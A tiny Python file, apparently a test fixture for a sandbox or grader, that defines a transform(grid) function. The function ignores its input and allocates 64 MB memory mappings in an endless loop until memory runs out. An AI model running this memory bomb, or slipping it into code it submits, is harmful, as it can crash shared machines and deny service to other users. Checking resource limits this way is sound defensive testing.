# ruff: noqa
"""Fills the memory by its own mappings."""

import mmap


def transform(grid):
    keep = []
    while True:
        block = mmap.mmap(-1, 1 << 26)
        block.write(b"x" * (1 << 26))
        keep.append(block)
